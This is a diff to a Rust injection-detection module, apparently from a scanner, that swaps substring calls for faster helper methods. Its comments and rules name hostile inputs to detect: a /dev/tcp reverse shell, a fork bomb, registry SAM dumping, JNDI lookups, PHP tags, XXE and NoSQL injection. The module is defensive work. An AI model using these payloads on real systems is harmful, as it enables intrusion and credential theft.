@@ -6,6 +6,7 @@
 use super::lists::{Patterns, Words, patterns, without_chars, words};
 use super::{Hit, Sink};
 use crate::detect::Category::*;
+use crate::detect::lists::Literal;
 use crate::targets::Location;
 
 /// Commands an injected shell line runs first (recon, download, reverse shells).
@@ -308,6 +309,10 @@ static ADMIN_TOOLS: Words = words!([
 
 /// Interpreters and compilers named with their version (`python3.10`, `gcc7.4`, `pip3`).
 fn versioned_tool(word: &str) -> bool {
+    // Most words have no digit: no need to try every name.
+    if !word.bytes().any(|b| b.is_ascii_digit()) {
+        return false;
+    }
     [
         "python", "pip", "perl", "ruby", "php", "node", "gcc", "g++", "clang", "lua", "java",
     ]
@@ -380,20 +385,21 @@ fn next_word(text: &str) -> &str {
 /// Windows' `reg` tool changing or reading a registry hive (`reg add "HKLM\System\…" /v
 /// fDenyTSConnections`, `reg save hklm\sam sam.hive`): a command line, not a value.
 fn registry_command(lower: &str) -> bool {
-    lower.match_indices("reg ").any(|(at, _)| {
-        let standalone = at == 0 || !lower.as_bytes()[at - 1].is_ascii_alphanumeric();
-        let rest = &lower[at + 4..];
-        let verb = next_word(rest.trim_start());
-        let target = rest.trim_start()[verb.len()..].trim_start_matches([' ', '"', '\'']);
-        standalone
-            && matches!(
-                verb,
-                "add" | "delete" | "query" | "save" | "export" | "import" | "copy"
-            )
-            && ["hklm", "hkcu", "hkcr", "hku\\", "hkcc", "hkey_"]
-                .iter()
-                .any(|hive| target.starts_with(hive))
-    })
+    lower.has("reg ")
+        && lower.match_indices("reg ").any(|(at, _)| {
+            let standalone = at == 0 || !lower.as_bytes()[at - 1].is_ascii_alphanumeric();
+            let rest = &lower[at + 4..];
+            let verb = next_word(rest.trim_start());
+            let target = rest.trim_start()[verb.len()..].trim_start_matches([' ', '"', '\'']);
+            standalone
+                && matches!(
+                    verb,
+                    "add" | "delete" | "query" | "save" | "export" | "import" | "copy"
+                )
+                && ["hklm", "hkcu", "hkcr", "hku\\", "hkcc", "hkey_"]
+                    .iter()
+                    .any(|hive| target.starts_with(hive))
+        })
 }
 
 /// OS command injection: a separator or substitution followed by a command, shell syntax
@@ -432,7 +438,7 @@ fn command(lower: &str, sink: &mut Sink) {
         }
     }
     // Payload lists write newlines as `\n`.
-    if lower.contains("\\n") {
+    if lower.has("\\n") {
         let lines = lower.replace("\\n", "\n");
         if let Some(rule) = command_rule(&lines) {
             sink.hit(Hit::new(Cmdi, rule, 5, 1, lower));
@@ -578,7 +584,7 @@ fn windows_drive(args: &str) -> bool {
 /// a program, sent where a statement reaches `sqlite3`.
 fn sqlite_shell_command(lower: &str) -> bool {
     // Every dot command that runs a program starts `.s`; most values have none.
-    lower.contains(".s")
+    lower.has(".s")
         && lower.match_indices(['\n', ';']).any(|(at, _)| {
             let rest = lower[at + 1..].trim_start();
             ["sh ", "shell ", "system "].iter().any(|cmd| {
@@ -768,12 +774,12 @@ fn command_rule(lower: &str) -> Option<&'static str> {
     }
     // A function that pipes into itself in the background: the fork bomb
     // (`:(){ :|:& };:`).
-    let squeezed_fn: String = if lower.contains('(') && lower.contains('{') {
-        lower.chars().filter(|c| !c.is_whitespace()).collect()
+    let squeezed_fn = if lower.contains('(') && lower.contains('{') {
+        without_chars(lower, char::is_whitespace)
     } else {
-        String::new()
+        "".into()
     };
-    if let Some(at) = squeezed_fn.find("(){") {
+    if let Some(at) = squeezed_fn.at("(){") {
         let body = &squeezed_fn[at + 3..];
         let name = &squeezed_fn[..at];
         let name = name.rsplit([';', '&', '|', ' ']).next().unwrap_or(name);
@@ -810,7 +816,7 @@ fn command_rule(lower: &str) -> Option<&'static str> {
     let words: Vec<&str> = statement.split_whitespace().collect();
     let batch_if = (words.first() == Some(&"if")
         || words.first().is_some_and(|w| w.starts_with("if/")))
-        && (lower.contains("==")
+        && (lower.has("==")
             || words.iter().any(|w| {
                 matches!(
                     *w,
@@ -854,7 +860,7 @@ fn shell_feature_rule(lower: &str) -> Option<&'static str> {
     }
     // `!-2`, `!-1!-2`, `!!!-1`: earlier commands re-run by their position in the history
     // (`!!` alone is also an exclamation).
-    if value.contains("!-") && history_expansion(value) {
+    if value.has("!-") && history_expansion(value) {
         return Some("cmdi.history_expansion");
     }
     // `\ls`: the backslash makes the shell skip aliases, and slips past filters that look
@@ -946,21 +952,22 @@ fn wildcard_path(word: &str) -> bool {
 /// (`d=/dev; sh 0>$d/tcp/203.0.113.9/80`).
 fn socket_redirect(lower: &str) -> bool {
     ["/tcp/", "/udp/"].iter().any(|proto| {
-        lower.match_indices(proto).any(|(at, _)| {
-            let before = &lower[..at];
-            let Some(dollar) = before.rfind('$') else {
-                return false;
-            };
-            let name = before[dollar + 1..].trim_matches(['{', '}']);
-            let port = lower[at + proto.len()..]
-                .split('/')
-                .nth(1)
-                .unwrap_or_default();
-            !name.is_empty()
-                && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
-                && before[..dollar].trim_end().ends_with(['>', '<', '&'])
-                && port.starts_with(|c: char| c.is_ascii_digit())
-        })
+        lower.has(proto)
+            && lower.match_indices(proto).any(|(at, _)| {
+                let before = &lower[..at];
+                let Some(dollar) = before.rfind('$') else {
+                    return false;
+                };
+                let name = before[dollar + 1..].trim_matches(['{', '}']);
+                let port = lower[at + proto.len()..]
+                    .split('/')
+                    .nth(1)
+                    .unwrap_or_default();
+                !name.is_empty()
+                    && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
+                    && before[..dollar].trim_end().ends_with(['>', '<', '&'])
+                    && port.starts_with(|c: char| c.is_ascii_digit())
+            })
     })
 }
 
@@ -997,14 +1004,15 @@ fn command_line(text: &str) -> bool {
         }
     }
     // A path to a program (`bin/visudo`, `/usr/sbin/useradd`).
-    if ["bin/", "sbin/"].iter().any(|d| {
-        lower.trim_start().starts_with(d)
-            || lower.contains(&format!("/{d}"))
-                && lower
-                    .split(&format!("/{d}"))
-                    .nth(1)
-                    .is_some_and(|r| r.starts_with(|c: char| c.is_ascii_alphabetic()))
-    }) && !lower.contains("://")
+    if [("bin/", "/bin/"), ("sbin/", "/sbin/")]
+        .iter()
+        .any(|(d, inside)| {
+            lower.trim_start().starts_with(d)
+                || lower
+                    .split_once(inside)
+                    .is_some_and(|(_, r)| r.starts_with(|c: char| c.is_ascii_alphabetic()))
+        })
+        && !lower.has("://")
     {
         return true;
     }
@@ -1121,12 +1129,12 @@ fn template(lower: &str, sink: &mut Sink) {
     }
     // A control block, opened and closed (`{% for c in [1,2] %}…{% endfor %}`,
     // `{% if x %}…{%endif%}`): template code, whatever it does.
-    if let Some(at) = lower.find("{%")
-        && let Some(end) = lower[at..].find("%}")
+    if let Some(at) = lower.at("{%")
+        && let Some(end) = lower[at..].at("%}")
         && ["for ", "if ", "with ", "macro "]
             .iter()
             .any(|w| lower[at + 2..at + end].trim_start().starts_with(w))
-        && (lower[at + end..].contains("{% end") || lower[at + end..].contains("{%end"))
+        && (lower[at + end..].has("{% end") || lower[at + end..].has("{%end"))
     {
         sink.hit(Hit::new(Ssti, "ssti.control_block", 5, 1, lower));
         return;
@@ -1142,9 +1150,9 @@ fn template(lower: &str, sink: &mut Sink) {
         ("[[", "]]"),
         ("{#", "#}"),
     ] {
-        let Some(at) = lower.find(open) else { continue };
+        let Some(at) = lower.at(open) else { continue };
         let inner = &lower[at + open.len()..];
-        let inner = &inner[..inner.find(close).unwrap_or(inner.len())];
+        let inner = &inner[..inner.at(close).unwrap_or(inner.len())];
         let arithmetic = inner.contains(['*', '+'])
             && inner.bytes().any(|c| c.is_ascii_digit())
             && inner.bytes().all(|c| {
@@ -1207,11 +1215,11 @@ fn java(lower: &str, decoded: &str, sink: &mut Sink) {
         sink.hit(Hit::new(JavaInjection, "java.encoded_gadget", 5, 1, lower));
         return;
     }
-    if lower.contains("${") {
+    if lower.has("${") {
         let squeezed = without_chars(lower, char::is_whitespace);
         // `${jndi:`, and `${${lower:j}ndi:`, `${${::-j}${::-n}di:` spellings.
         let unwrapped = unwrap_lookups(&squeezed);
-        if unwrapped.contains("jndi:")
+        if unwrapped.has("jndi:")
             || [
                 "${env:",
                 "${sys:",
@@ -1246,11 +1254,7 @@ fn java(lower: &str, decoded: &str, sink: &mut Sink) {
     }
     // Serialized Java objects: `aced0005` in hex, `rO0AB` in base64 (and `KztAA`,
     // `Cs7QA` when the magic sits at the other two alignments of a base64 string).
-    if lower.contains("aced0005")
-        || lower.contains("ro0ab")
-        || decoded.contains("KztAA")
-        || decoded.contains("Cs7QA")
-    {
+    if lower.has("aced0005") || lower.has("ro0ab") || decoded.has("KztAA") || decoded.has("Cs7QA") {
         sink.hit(Hit::new(
             JavaInjection,
             "java.serialized_object",
@@ -1262,10 +1266,9 @@ fn java(lower: &str, decoded: &str, sink: &mut Sink) {
     }
     // `%{...}` OGNL and `#{...}` / `${...}` EL with method calls.
     for open in ["%{", "#{", "${"] {
-        if let Some(at) = lower.find(open) {
+        if let Some(at) = lower.at(open) {
             let inner = &lower[at + 2..];
-            if inner.contains("(")
-                && (inner.contains('.') || inner.contains('@') || inner.contains('#'))
+            if inner.has("(") && (inner.contains('.') || inner.contains('@') || inner.contains('#'))
             {
                 sink.hit(Hit::new(JavaInjection, "java.expression", 5, 1, lower));
                 return;
@@ -1281,11 +1284,11 @@ fn unwrap_lookups(text: &str) -> String {
         let mut next = String::with_capacity(current.len());
         let mut rest = current.as_str();
         let mut changed = false;
-        while let Some(at) = rest.find("${") {
+        while let Some(at) = rest.at("${") {
             next.push_str(&rest[..at]);
             let inner = &rest[at + 2..];
             match inner.find('}') {
-                Some(end) if !inner[..end].contains("${") => {
+                Some(end) if !inner[..end].has("${") => {
                     let body = &inner[..end];
                     let value = body
                         .rsplit_once(":-")
@@ -1375,19 +1378,19 @@ fn php(lower: &str, sink: &mut Sink) {
     }
     // Every tag below opens with one of these.
     if squeezed.contains(['<', '{', '['])
-        && (squeezed.contains("<?php")
+        && (squeezed.has("<?php")
             || squeezed.ends_with("<?")
-            || squeezed.contains("{php}")
-            || squeezed.contains("{/php}")
-            || squeezed.contains("[/php]")
-            || squeezed.contains("[\\php]")
-            || squeezed.contains("<?=")
-            || (squeezed.contains("<?")
-                && (squeezed.contains("?>")
+            || squeezed.has("{php}")
+            || squeezed.has("{/php}")
+            || squeezed.has("[/php]")
+            || squeezed.has("[\\php]")
+            || squeezed.has("<?=")
+            || (squeezed.has("<?")
+                && (squeezed.has("?>")
                     || squeezed.contains('$')
-                    || squeezed.contains("echo")
-                    || squeezed.contains("system")))
-            || squeezed.contains("[php]"))
+                    || squeezed.has("echo")
+                    || squeezed.has("system")))
+            || squeezed.has("[php]"))
     {
         sink.hit(Hit::new(PhpInjection, "php.open_tag", 5, 1, lower));
         return;
@@ -1420,7 +1423,7 @@ fn php(lower: &str, sink: &mut Sink) {
         return;
     }
     // Variable variables: `${a}`, `${'_VAR'.'IABLE'}`, `$ {$a}`.
-    if let Some(at) = squeezed.find("${") {
+    if let Some(at) = squeezed.at("${") {
         let inner = &squeezed[at + 2..];
         let inner = &inner[..inner.find('}').unwrap_or(inner.len())];
         if inner.starts_with('$')
@@ -1434,8 +1437,8 @@ fn php(lower: &str, sink: &mut Sink) {
         }
     }
     // Serialized PHP objects: `O:8:"stdClass":1:{`.
-    if squeezed.starts_with("o:") && squeezed.contains(":{")
-        || squeezed.contains("a:2:{") && squeezed.contains("s:")
+    if squeezed.starts_with("o:") && squeezed.has(":{")
+        || squeezed.has("a:2:{") && squeezed.has("s:")
     {
         sink.hit(Hit::new(PhpInjection, "php.serialized_object", 5, 1, lower));
     }
@@ -1531,10 +1534,11 @@ fn javascript(lower: &str, decoded: &str, sink: &mut Sink) {
 /// Perl code interpolated into a string: `@{[ system 'id' ]}` runs its expression wherever
 /// Perl evaluates a double-quoted string or a template built from input.
 fn perl(lower: &str, sink: &mut Sink) {
-    let interpolated = lower.match_indices("@{").any(|(at, _)| {
-        let rest = lower[at + 2..].trim_start();
-        rest.starts_with('[') && rest[1..].contains(']')
-    });
+    let interpolated = lower.has("@{")
+        && lower.match_indices("@{").any(|(at, _)| {
+            let rest = lower[at + 2..].trim_start();
+            rest.starts_with('[') && rest[1..].contains(']')
+        });
     if interpolated {
         sink.hit(Hit::new(
             PerlInjection,
@@ -1549,8 +1553,8 @@ fn perl(lower: &str, sink: &mut Sink) {
 /// `do{d2=new Date();}while(d2-d1<10000)`: a loop that spins until some time has passed,
 /// the timing probe of injections into server-side JavaScript (MongoDB `$where`).
 fn busy_wait(squeezed: &str) -> bool {
-    squeezed.contains("while(")
-        && (squeezed.contains("newdate(") || squeezed.contains("date.now("))
+    squeezed.has("while(")
+        && (squeezed.has("newdate(") || squeezed.has("date.now("))
         && squeezed.match_indices("while(").any(|(at, _)| {
             let cond = squeezed[at + 6..].split(')').next().unwrap_or_default();
             cond.contains('-')
@@ -1562,49 +1566,50 @@ fn busy_wait(squeezed: &str) -> bool {
 /// `while(!false)`, `while(Infinity)`, `while(!![])`: a loop whose condition is a
 /// constant, which ties up the server's event loop.
 fn infinite_loop(squeezed: &str) -> bool {
-    squeezed.match_indices("while(").any(|(at, _)| {
-        // The condition up to its closing parenthesis (nested ones included).
-        let mut depth = 1;
-        let cond: String = squeezed[at + 6..]
-            .chars()
-            .take_while(|c| {
-                match c {
-                    '(' => depth += 1,
-                    ')' => depth -= 1,
-                    _ => {}
-                }
-                depth > 0
-            })
-            .collect();
-        // Nothing in it can change: literals, signs, negations and names of constants.
-        let bare: String = cond
-            .chars()
-            .filter(|c| {
-                !matches!(
-                    c,
-                    '(' | ')' | '!' | '+' | '-' | '[' | ']' | '"' | '\'' | '`'
-                )
-            })
-            .collect();
-        !cond.contains(['<', '>', '=', '.', ',', ';'])
-            && (bare.is_empty()
-                || bare.bytes().all(|b| b.is_ascii_digit())
-                || matches!(
-                    bare.as_str(),
-                    "true"
-                        | "false"
-                        | "infinity"
-                        | "this"
-                        | "string"
-                        | "object"
-                        | "array"
-                        | "number"
-                        | "function"
-                        | "null"
-                        | "undefined"
-                        | "nan"
-                ))
-    })
+    squeezed.has("while(")
+        && squeezed.match_indices("while(").any(|(at, _)| {
+            // The condition up to its closing parenthesis (nested ones included).
+            let mut depth = 1;
+            let cond: String = squeezed[at + 6..]
+                .chars()
+                .take_while(|c| {
+                    match c {
+                        '(' => depth += 1,
+                        ')' => depth -= 1,
+                        _ => {}
+                    }
+                    depth > 0
+                })
+                .collect();
+            // Nothing in it can change: literals, signs, negations and names of constants.
+            let bare: String = cond
+                .chars()
+                .filter(|c| {
+                    !matches!(
+                        c,
+                        '(' | ')' | '!' | '+' | '-' | '[' | ']' | '"' | '\'' | '`'
+                    )
+                })
+                .collect();
+            !cond.contains(['<', '>', '=', '.', ',', ';'])
+                && (bare.is_empty()
+                    || bare.bytes().all(|b| b.is_ascii_digit())
+                    || matches!(
+                        bare.as_str(),
+                        "true"
+                            | "false"
+                            | "infinity"
+                            | "this"
+                            | "string"
+                            | "object"
+                            | "array"
+                            | "number"
+                            | "function"
+                            | "null"
+                            | "undefined"
+                            | "nan"
+                    ))
+        })
 }
 
 /// NoSQL operators in names or values: `user[$ne]=`, `{"$where": …}`, `$regex`.
@@ -1645,11 +1650,9 @@ fn nosql(location: Location, lower: &str, sink: &mut Sink) {
         return;
     }
     // Server-side JavaScript in a `$where`-style string: `'; return true; var x='`.
-    if (lower.contains("this.") || lower.contains("return "))
-        && (lower.contains("';")
-            || lower.contains("\";")
-            || lower.contains("||") && lower.contains("=="))
-        && (lower.contains("return") || lower.contains("sleep(") || lower.contains("db."))
+    if (lower.has("this.") || lower.has("return "))
+        && (lower.has("';") || lower.has("\";") || lower.has("||") && lower.has("=="))
+        && (lower.has("return") || lower.has("sleep(") || lower.has("db."))
     {
         sink.hit(Hit::new(Nosqli, "nosqli.javascript", 5, 1, lower));
     }
@@ -1717,23 +1720,21 @@ fn ssi(lower: &str, sink: &mut Sink) {
 
 /// XML external entities: a DOCTYPE that declares entities, or an external reference.
 fn xxe(location: Location, lower: &str, sink: &mut Sink) {
-    if !lower.contains("<!") {
+    if !lower.has("<!") {
         return;
     }
     let squeezed: String = lower.split_whitespace().collect::<Vec<_>>().join(" ");
-    if squeezed.contains("<!entity")
-        || (squeezed.contains("<!doctype")
-            && (squeezed.contains(" system ")
-                || squeezed.contains(" public ")
-                || squeezed.contains('[')))
-        || squeezed.contains("<!attlist")
-        || squeezed.contains("<!element")
+    if squeezed.has("<!entity")
+        || (squeezed.has("<!doctype")
+            && (squeezed.has(" system ") || squeezed.has(" public ") || squeezed.contains('[')))
+        || squeezed.has("<!attlist")
+        || squeezed.has("<!element")
     {
         sink.hit(Hit::new(Xxe, "xxe.entity", 5, 1, lower));
         return;
     }
     let _ = location;
-    if squeezed.contains("xinclude") || squeezed.contains("<xi:include") {
+    if squeezed.has("xinclude") || squeezed.has("<xi:include") {
         sink.hit(Hit::new(Xxe, "xxe.xinclude", 5, 1, lower));
     }
 }
@@ -1887,7 +1888,7 @@ fn mail_protocol_line(line: &str) -> bool {
             "fetch" | "store" | "copy" | "search" | "expunge"
         ),
         "select" | "examine" | "status" | "list" | "lsub" | "create" | "delete" | "rename"
-        | "subscribe" => line_lower.contains("inbox") || words[2].starts_with('"'),
+        | "subscribe" => line_lower.has("inbox") || words[2].starts_with('"'),
         // Search keys are written in capitals by clients and by payloads; prose is not.
         "search" => words[1] == "SEARCH",
         _ => false,
@@ -1896,7 +1897,7 @@ fn mail_protocol_line(line: &str) -> bool {
 
 /// `METHOD target HTTP/n.n` anywhere in the text.
 fn request_line(text: &str) -> bool {
-    text.contains(" HTTP/")
+    text.has(" HTTP/")
         && text.split(['\r', '\n']).any(|line| {
             let mut words = line.split_whitespace().skip_while(|w| {
                 !matches!(
@@ -1996,7 +1997,7 @@ pub(crate) fn java_encoded(decoded: &str, sink: &mut Sink) {
 /// `text` without `// …` and `# …` comments running to the end of a line, where a line
 /// follows (`exec //x\n (ls)`); a URL's `//` is not one.
 fn strip_line_comments(text: &str) -> std::borrow::Cow<'_, str> {
-    if !text.contains(['\n', '\r']) || !(text.contains("//") || text.contains('#')) {
+    if !text.contains(['\n', '\r']) || !(text.has("//") || text.contains('#')) {
         return std::borrow::Cow::Borrowed(text);
     }
     let mut out = String::with_capacity(text.len());
